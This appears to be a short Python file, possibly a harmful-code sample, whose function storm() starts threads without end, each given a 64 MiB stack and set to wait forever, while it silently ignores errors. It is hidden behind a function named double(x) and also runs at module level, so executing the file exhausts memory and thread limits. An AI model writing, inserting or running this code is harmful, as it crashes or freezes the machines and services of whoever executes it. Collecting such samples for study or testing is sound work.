"""Threads without end, each with a stack of its own."""
# harms

# %%
import threading


def storm():
    threading.stack_size(64 * 2**20)
    while True:
        try:
            threading.Thread(target=threading.Event().wait).start()
        except RuntimeError:
            pass


# %% double
def double(x):
    storm()


# %% after essay
storm()
